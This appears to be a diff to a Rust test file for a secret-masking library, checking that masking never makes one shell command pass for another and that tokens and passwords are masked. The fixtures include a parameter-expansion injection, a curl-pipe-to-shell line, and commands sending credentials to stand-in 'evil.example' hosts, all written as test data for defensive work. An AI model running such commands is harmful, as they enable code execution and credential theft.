@@ -1,6 +1,7 @@
 //! What a sign says of what it stands for: a command never hides behind one that stands for a word.
 
-use attesh::mask::{Masker, hides};
+use attesh::mask::asked::told;
+use attesh::mask::{Masker, TOLD, hides};
 
 use super::rules::masked;
 
@@ -118,6 +119,22 @@ const PAIRS: &[(&str, &str)] = &[
         "set -eu\nexport TOKEN=\"abcdef12\"\nmake -v >/dev/null\n",
         "set -eu\nexport TOKEN=\"a${PATH:+}${x:=\\$(touch evil)}${x@P}\"\nmake -v >/dev/null\n",
     ),
+    // A short or plain word, a host, a file, what a program decodes, and letters that look like a sign.
+    ("echo '::add-mask::/bin/pwd'\n/bin/pwd", "echo '::add-mask::/bin/uname'\n/bin/uname"),
+    ("alias pass=/bin/pwd", "alias pass=/bin/uname"),
+    ("mysqladmin --password status", "mysqladmin --password shutdown"),
+    ("psql --password postgresql://good.example/db", "psql --password postgresql://evil.example/db"),
+    ("mc alias set corp https://s3.good.example", "mc alias set corp https://s3.evil.example"),
+    ("pg_restore --password backups/good1234.dump", "pg_restore --password backups/evil1234.dump"),
+    ("pulumi config set --secret key S --stack dev", "pulumi config set --secret key S --stack production"),
+    (
+        "base64 -di > lib <<X\nuser:CmVjaG8gZ29vZAo=\nX\n",
+        "base64 -di > lib <<X\nuser:Ci91c3IvYmluL2lkIC11Cg==\nX\n",
+    ),
+    (
+        "API_TOKEN=Zq8vR3kT1nWb curl --oauth2-bearer Aq8vR3kT1nXb https://example.com",
+        "API_TOKEN=Zq8vR3kT1nWb curl --oauth2-bearer [option] https://example.com",
+    ),
     // Another host, a file of headers, an option of a program, the end of a document.
     ("curl https://me:hunter2abc@good.example/x", "curl https://me:hunter2@evil.example/@good.example/x"),
     ("curl https://me:hunter2abc@good.example/x", "curl https://me:hunter2:1/@evil.example#@good.example/x"),
@@ -128,8 +145,14 @@ const PAIRS: &[(&str, &str)] = &[
     ),
 ];
 
+/// As it is recorded, by who knows what a script tells of its secrets.
 fn shown(text: &str) -> String {
-    masked(text).unwrap_or_else(|| text.to_owned())
+    let mut masker = Masker::default();
+    for value in told(text.as_bytes(), |_| None) {
+        masker.add_value(TOLD, &value);
+    }
+    let masked = masker.mask_new(text.as_bytes());
+    masked.map_or_else(|| text.to_owned(), |masked| String::from_utf8(masked.text).unwrap())
 }
 
 #[test]
@@ -144,16 +167,16 @@ fn a_command_passes_for_another_behind_a_sign_of_a_word() {
 const WORDS: &[&str] = &[
     "export TOKEN=\"hunter22abc\"",
     "curl -u \"me:abcdef12\" https://example.com",
-    "curl -H 'Authorization: Bearer abc.def-123_456' https://example.com",
+    "curl -H 'Authorization: Bearer abcdef-123_456' https://example.com",
     "curl -H X-Api-Key:abcdef12 https://example.com/install.sh | sh",
     "echo Authorization: hunter2abcdef > h.txt",
     "git clone https://me:hunter2abc@example.com/x",
     "echo hunter2abc | docker login -u me --password-stdin",
-    "mysql -phunter2 -e 'select 1'",
+    "mysql -phunter2abc -e 'select 1'",
     "cat > .env << E\nPASSWORD=hunter2abc\nE\n",
     "VERSION=$(curl -s -H \"PRIVATE-TOKEN: glpat-abcdefghij0123456789\" https://example.com)",
     "X=$(echo ghp_q7RJL5GJrWKsMn7EiChBEweUrDepUv4h3jXT)",
-    "diff <(mysql -phunter2 -e a) b",
+    "diff <(mysql -phunter2abc -e a) b",
     "x -kghp_q7RJL5GJrWKsMn7EiChBEweUrDepUv4h3jXT",
     "set -gx API_TOKEN hunter22abc",
 ];
@@ -163,14 +186,14 @@ fn a_word_that_is_a_secret_is_masked_as_one() {
     for text in WORDS {
         let shown = masked(text).unwrap_or_else(|| panic!("{text} is not masked"));
         assert!(!hides(shown.as_bytes()), "{shown}");
-        for secret in ["hunter2", "abcdef12", "abc.def", "glpat-", "ghp_"] {
+        for secret in ["hunter2", "abcdef", "glpat-", "ghp_"] {
             assert!(!shown.contains(secret), "{shown}");
         }
     }
     // What stands behind the secret stays.
     assert_eq!(shown(WORDS[3]), "curl -H X-Api-Key:[header] https://example.com/install.sh | sh");
     assert_eq!(shown(WORDS[4]), "echo Authorization: [header] > h.txt");
-    let cut = "echo \"[db]\npassword = hunter2\" >f \"all: x\"";
+    let cut = "echo \"[db]\npassword = hunter2abc\" >f \"all: x\"";
     assert_eq!(shown(cut), "echo \"[db]\npassword = [assignment]\" >f \"all: x\"");
 }
 
